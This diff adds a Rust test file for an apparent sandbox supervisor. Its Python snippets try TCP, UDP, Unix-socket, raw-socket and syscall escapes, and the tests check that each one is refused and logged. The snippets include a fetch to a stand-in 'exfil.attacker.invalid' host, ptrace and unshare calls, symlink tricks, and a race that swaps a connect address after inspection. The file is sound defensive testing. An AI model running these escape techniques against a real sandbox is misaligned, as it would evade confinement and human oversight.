@@ -1,0 +1,287 @@
+//! Reaching out: nothing arrives, everything is written down.
+use std::{
+    net::{TcpListener, UdpSocket},
+    os::unix::net::{UnixDatagram, UnixListener},
+    time::Duration,
+};
+
+use mcpsec_capture::observe::Reach;
+use mcpsec_model::text::Untrusted;
+
+use crate::stage::{Outcome, Stage};
+
+const BOTH: [Reach; 2] = [Reach::Own, Reach::Shared];
+
+fn hosts(outcome: &Outcome) -> Vec<&str> {
+    outcome.observed.hosts.iter().map(Untrusted::raw).collect()
+}
+
+fn run(reach: Reach, script: &str) -> Option<Outcome> {
+    Stage::new(reach).python(script)
+}
+
+/// What a script says about an attempt.
+const ATTEMPT: &str = r"
+import socket, errno, sys, os
+def attempt(what):
+    try:
+        what()
+        print('done')
+    except OSError as error:
+        print(errno.errorcode.get(error.errno, error.errno))
+def tcp(address, family=socket.AF_INET):
+    s = socket.socket(family, socket.SOCK_STREAM)
+    s.settimeout(10)
+    s.connect(address)
+";
+
+#[test]
+fn tcp_gets_nowhere() {
+    for reach in BOTH {
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        listener.set_nonblocking(true).unwrap();
+        let port = listener.local_addr().unwrap().port();
+        let script = format!(
+            "{ATTEMPT}
+attempt(lambda: tcp(('127.0.0.1', {port})))
+attempt(lambda: tcp(('192.0.2.1', 443)))
+attempt(lambda: tcp(('2001:db8::1', 443), socket.AF_INET6))
+attempt(lambda: tcp(('::ffff:192.0.2.9', 80), socket.AF_INET6))
+attempt(lambda: tcp(('0.0.0.0', {port})))
+"
+        );
+        let Some(outcome) = run(reach, &script) else { return };
+        assert_eq!(outcome.said, "ECONNREFUSED\nENETUNREACH\nENETUNREACH\nENETUNREACH\nECONNREFUSED\n", "{reach:?}");
+        let here = format!("127.0.0.1:{port}");
+        let any = format!("0.0.0.0:{port}");
+        let expected = [&any[..], &here, "192.0.2.1:443", "192.0.2.9:80", "[2001:db8::1]:443"];
+        assert_eq!(hosts(&outcome), expected, "{reach:?}");
+        assert!(!outcome.observed.incomplete);
+        assert!(listener.accept().is_err(), "somebody came");
+    }
+}
+
+#[test]
+fn udp_gets_nowhere() {
+    for reach in BOTH {
+        let listener = UdpSocket::bind("127.0.0.1:0").unwrap();
+        listener.set_nonblocking(true).unwrap();
+        let port = listener.local_addr().unwrap().port();
+        let script = format!(
+            "{ATTEMPT}
+def send(address):
+    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', address)
+def message(address):
+    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendmsg([b'x'], [], 0, address)
+def many(address):
+    import ctypes, struct
+    libc = ctypes.CDLL(None, use_errno=True)
+    raw = ctypes.create_string_buffer(struct.pack('=H', 2) + struct.pack('!H', address[1]) + socket.inet_aton(address[0]) + bytes(8))
+    data = ctypes.create_string_buffer(b'x', 1)
+    part = ctypes.create_string_buffer(struct.pack('QQ', ctypes.addressof(data), 1))
+    head = struct.pack('QQQQQQQQ', ctypes.addressof(raw), 16, ctypes.addressof(part), 1, 0, 0, 0, 0)
+    buffer = ctypes.create_string_buffer(head)
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    if libc.sendmmsg(s.fileno(), buffer, 1, 0) < 0:
+        raise OSError(ctypes.get_errno(), 'sendmmsg')
+def connected(address):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.connect(address)
+    s.send(b'x')
+for way in (send, message, many, connected):
+    attempt(lambda: way(('192.0.2.1', 9)))
+    attempt(lambda: way(('127.0.0.1', {port})))
+"
+        );
+        let Some(outcome) = run(reach, &script) else { return };
+        std::thread::sleep(Duration::from_millis(20));
+        assert!(listener.recv_from(&mut [0; 8]).is_err(), "something came");
+        match reach {
+            Reach::Own => {
+                // Its own loopback takes datagrams for nobody.
+                assert!(outcome.said.starts_with(&"ENETUNREACH\ndone\n".repeat(3)), "{}", outcome.said);
+                assert!(hosts(&outcome).contains(&"192.0.2.1:9"), "{:?}", outcome.observed);
+            }
+            Reach::Shared => {
+                assert_eq!(outcome.said, "EACCES\n".repeat(8));
+                assert_eq!(outcome.observed.refused.get("socket"), Some(&8));
+            }
+        }
+    }
+}
+
+#[test]
+fn unix_sockets_of_this_machine_are_out_of_reach() {
+    let folder = tempfile::tempdir().unwrap();
+    let (stream, datagram) = (folder.path().join("s"), folder.path().join("d"));
+    let listener = UnixListener::bind(&stream).unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let receiver = UnixDatagram::bind(&datagram).unwrap();
+    receiver.set_nonblocking(true).unwrap();
+    let script = format!(
+        "{ATTEMPT}
+def unix(kind, path):
+    socket.socket(socket.AF_UNIX, kind).connect(path)
+attempt(lambda: unix(socket.SOCK_STREAM, '{stream}'))
+attempt(lambda: unix(socket.SOCK_STREAM, '/run/some/engine.sock'))
+attempt(lambda: unix(socket.SOCK_STREAM, '\\0name'))
+attempt(lambda: unix(socket.SOCK_SEQPACKET, '{stream}'))
+attempt(lambda: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b'x', '{datagram}'))
+attempt(lambda: socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM))
+attempt(lambda: socket.socketpair())
+",
+        stream = stream.display(),
+        datagram = datagram.display()
+    );
+    // With a file system of its own there is no such path; that is the launcher's part.
+    let Some(outcome) = run(Reach::Shared, &script) else { return };
+    assert_eq!(outcome.said, "ENOENT\nENOENT\nECONNREFUSED\nENOENT\nEAFNOSUPPORT\nEACCES\ndone\n");
+    let files: Vec<&str> = outcome.observed.files.iter().map(Untrusted::raw).collect();
+    assert_eq!(files, ["/run/some/engine.sock", "@name"]);
+    assert!(listener.accept().is_err() && receiver.recv(&mut [0; 8]).is_err(), "somebody came");
+}
+
+#[test]
+fn its_own_servers_are_in_reach() {
+    let unix = "
+s = socket.socket(socket.AF_UNIX); s.bind('own.sock'); s.listen()
+c = socket.socket(socket.AF_UNIX); c.connect('own.sock')
+a, _ = s.accept(); c.sendall(b'unix'); print(a.recv(9).decode())
+";
+    let tcp = "
+s = socket.create_server(('127.0.0.1', 0))
+c = socket.create_connection(s.getsockname())
+a, _ = s.accept(); c.sendall(b'tcp'); print(a.recv(9).decode())
+import asyncio
+async def main():
+    async def serve(r, w): w.write(b'asyncio'); w.close()
+    server = await asyncio.start_server(serve, '::1', 0)
+    r, w = await asyncio.open_connection(*server.sockets[0].getsockname()[:2])
+    print((await r.read()).decode()); w.close()
+asyncio.run(main())
+";
+    let Some(outcome) = run(Reach::Own, &format!("{ATTEMPT}{unix}{tcp}")) else { return };
+    assert_eq!(outcome.said, "unix\ntcp\nasyncio\n");
+    assert_eq!(hosts(&outcome), [""; 0]);
+    let mut stage = Stage::new(Reach::Shared);
+    stage.rules.sockets.push(stage.home.path().to_owned());
+    let outcome = stage.python(&format!("{ATTEMPT}{unix}attempt(lambda: socket.create_server(('127.0.0.1', 0)))\nattempt(lambda: socket.socket().listen())")).unwrap();
+    assert_eq!(outcome.said, "unix\nEACCES\nEACCES\n");
+    assert_eq!((outcome.observed.refused.get("bind"), outcome.observed.refused.get("listen")), (Some(&1), Some(&1)));
+}
+
+#[test]
+fn a_link_does_not_lead_to_a_socket_outside() {
+    let folder = tempfile::tempdir().unwrap();
+    let outside = folder.path().join("s");
+    let listener = UnixListener::bind(&outside).unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let mut stage = Stage::new(Reach::Shared);
+    stage.rules.sockets.push(stage.home.path().to_owned());
+    let script = format!(
+        "{ATTEMPT}
+os.symlink('{}', 'l'); os.symlink('{}', 'f')
+attempt(lambda: socket.socket(socket.AF_UNIX).connect('l'))
+attempt(lambda: socket.socket(socket.AF_UNIX).connect('f/s'))
+",
+        outside.display(),
+        folder.path().display()
+    );
+    let Some(outcome) = stage.python(&script) else { return };
+    assert_eq!(outcome.said, "ELOOP\nELOOP\n");
+    assert!(listener.accept().is_err(), "somebody came");
+}
+
+#[test]
+fn names_are_told_and_lead_nowhere() {
+    for reach in BOTH {
+        let script = format!(
+            "{ATTEMPT}
+import urllib.request
+def fetch(url):
+    try: urllib.request.urlopen(url, timeout=10)
+    except urllib.error.URLError as error: print(type(error.reason).__name__, error.reason.errno)
+fetch('http://Exfil.attacker.invalid/x')
+ip = socket.gethostbyname('second.invalid')
+print(ip[:7])
+attempt(lambda: tcp((ip, 80)))
+print(len(socket.getaddrinfo('second.invalid', 443, type=socket.SOCK_STREAM)))
+"
+        );
+        let Some(outcome) = run(reach, &script) else { return };
+        assert_eq!(outcome.said, "OSError 101\n198.18.\nENETUNREACH\n1\n", "{reach:?}");
+        assert_eq!(hosts(&outcome), ["exfil.attacker.invalid", "second.invalid"], "{reach:?}");
+    }
+}
+
+#[test]
+fn other_ways_out_are_refused_by_name() {
+    for reach in BOTH {
+        let script = format!(
+            "{ATTEMPT}
+import ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+def call(*args):
+    if libc.syscall(*args) < 0: raise OSError(ctypes.get_errno(), 'x')
+attempt(lambda: call(425, 8, 0))
+attempt(lambda: libc.ptrace(16, 1, 0, 0) < 0 and call(101, 16, 1, 0, 0))
+attempt(lambda: call(272, 0x10000000))
+attempt(lambda: call(56, 0x10000011, 0, 0, 0, 0))
+attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
+attempt(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0))
+attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132))
+attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262))
+attempt(lambda: socket.socket(40, socket.SOCK_STREAM, 0))
+attempt(lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 15))
+attempt(lambda: socket.if_nameindex())
+s = socket.socket(); attempt(lambda: s.sendto(b'x', 0x20000000, ('192.0.2.7', 80)))
+"
+        );
+        if cfg!(not(target_arch = "x86_64")) {
+            return;
+        }
+        let Some(outcome) = run(reach, &script) else { return };
+        let expected =
+            "ENOSYS EPERM EPERM EPERM EPERM EPERM EPROTONOSUPPORT EPROTONOSUPPORT EAFNOSUPPORT EPERM done ENOTSUP";
+        assert_eq!(outcome.said.split_whitespace().collect::<Vec<_>>().join(" "), expected, "{reach:?}");
+        let refused: Vec<_> = outcome.observed.refused.iter().map(|(name, times)| (name.as_str(), *times)).collect();
+        let expected = [("clone", 1), ("io_uring_setup", 1), ("ptrace", 2), ("socket", 6), ("unshare", 1)];
+        assert_eq!(refused, expected, "{reach:?}");
+        assert_eq!(hosts(&outcome), ["192.0.2.7:80"]);
+    }
+}
+
+/// One thread exchanges the address while another connects: whichever the supervisor sees, the kernel must not use the other.
+#[test]
+fn an_address_cannot_be_exchanged_after_the_look() {
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let script = format!(
+        "{ATTEMPT}
+import ctypes, struct, threading, time
+libc = ctypes.CDLL(None, use_errno=True)
+unix = struct.pack('=H', 1) + b'own.sock' + bytes(16)
+inet = struct.pack('=H', 2) + struct.pack('!H', {port}) + bytes([127, 0, 0, 1]) + bytes(16)
+own = socket.socket(socket.AF_UNIX); own.bind('own.sock'); own.listen(512)
+buffer = ctypes.create_string_buffer(unix, 26)
+stop = False
+def swap():
+    while not stop:
+        ctypes.memmove(buffer, inet, 26); ctypes.memmove(buffer, unix, 26)
+t = threading.Thread(target=swap); t.start()
+reached = 0
+for _ in range(400):
+    s = socket.socket()
+    reached += libc.connect(s.fileno(), buffer, 26) == 0
+    s.close()
+stop = True; t.join()
+print(reached)
+"
+    );
+    let mut stage = Stage::new(Reach::Shared);
+    stage.rules.sockets.push(stage.home.path().to_owned());
+    let Some(outcome) = stage.python(&script) else { return };
+    assert_eq!(outcome.said, "0\n");
+    assert!(listener.accept().is_err(), "somebody came");
+}
